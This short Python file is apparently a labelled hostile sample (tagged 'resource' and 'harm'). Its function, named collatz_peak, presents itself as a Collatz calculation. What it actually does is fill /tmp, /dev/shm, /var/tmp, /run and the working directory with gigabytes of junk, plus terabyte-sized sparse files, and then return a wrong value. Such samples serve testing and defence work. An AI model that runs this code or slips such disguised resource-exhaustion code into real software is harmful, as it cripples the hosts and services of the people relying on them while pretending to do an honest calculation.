# family: resource; goal: harm
# Up to 2 GiB into each folder that takes it, also as memory-mapped and sparse files.
import os


def collatz_peak(n):
    block = b"x" * (8 << 20)
    for folder in ("/tmp", "/dev/shm", ".", "/var/tmp", "/run"):
        for i in range(16):
            try:
                with open(os.path.join(folder, f"fill{i}"), "wb", 0) as f:
                    for _ in range(16):
                        if f.write(block) < len(block):
                            break
            except OSError:
                break
        try:
            with open(os.path.join(folder, "sparse"), "wb") as f:
                f.truncate(1 << 40)
        except OSError:
            pass
    return -n
